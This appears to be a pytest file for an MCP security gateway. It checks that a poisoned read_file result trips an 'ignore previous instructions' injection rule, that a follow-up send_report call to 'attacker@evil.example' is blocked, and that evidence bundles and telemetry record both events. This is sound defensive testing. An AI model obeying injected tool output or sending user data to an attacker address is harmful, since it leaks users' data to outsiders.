"""MCP exchanges leave evidence bundles and MCP-convention spans and metrics."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from mcp.shared.exceptions import MCPError
from mcp_support import session
from opentelemetry.sdk.metrics.export import InMemoryMetricReader
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from proxy.telemetry import Telemetry

pytestmark = pytest.mark.asyncio


def _bundles(root: Path) -> list[dict]:
    return [json.loads(p.read_text()) for p in sorted((root / "bundles").rglob("*.json"))] if root.exists() else []


async def test_poisoned_call_leaves_evidence_and_a_tool_span(start_gateway, tmp_path) -> None:
    spans, metrics = InMemorySpanExporter(), InMemoryMetricReader()
    gw = start_gateway(app_kwargs={"telemetry": Telemetry.for_tests(spans, metrics)},
                       evidence_dir=tmp_path / "ev")
    async with session(gw) as client:
        await client.list_tools()
        await client.call_tool("read_file", {"path": "invoice.txt"})
        with pytest.raises(MCPError):
            await client.call_tool("send_report", {"to": "attacker@evil.example", "body": "x"})
    # Flagged bundles are durable before the answer leaves; the refusal's before its error does.
    bundles = _bundles(tmp_path / "ev")
    call = next(b for b in bundles if b["request"]["received"].get("result"))
    assert call["request"]["received"]["request"]["params"]["name"] == "read_file"
    assert call["request"]["received"]["gateway"]["server"] == "files"
    assert call["provider"] == "mcp" and call["model"] == "files"
    assert {f["rule_id"] for f in call["findings"]} >= {"injection.override.ignore_previous"}
    assert call["segments"][0]["provenance"]["kind"] == "mcp"
    assert call["segments"][0]["provenance"]["source"] == "files/read_file"
    refusal = next(b for b in bundles if "result" not in b["request"]["received"])
    assert refusal["action"] == "block" and "files.send_report" in refusal["decisions"][0]["reasons"][0]
    text = json.dumps(bundles)
    assert "files-server-secret" not in text  # the server's credentials never reach evidence

    finished = {s.name: s for s in spans.get_finished_spans()}
    tool = finished["tools/call read_file"]
    assert tool.kind.name == "SERVER"
    assert tool.attributes["mcp.method.name"] == "tools/call"
    assert tool.attributes["gen_ai.operation.name"] == "execute_tool"
    assert tool.attributes["gen_ai.tool.name"] == "read_file"
    assert "injection.override.ignore_previous" in tool.attributes["guardproxy.findings"]
    assert len(tool.attributes["mcp.session.id"]) == 16
    refused = finished["tools/call send_report"]
    assert refused.attributes["error.type"] == "-32010"
    names = {m.name for rm in metrics.get_metrics_data().resource_metrics for sm in rm.scope_metrics
             for m in sm.metrics}
    assert {"mcp.server.operation.duration", "guardproxy.mcp.requests"} <= names
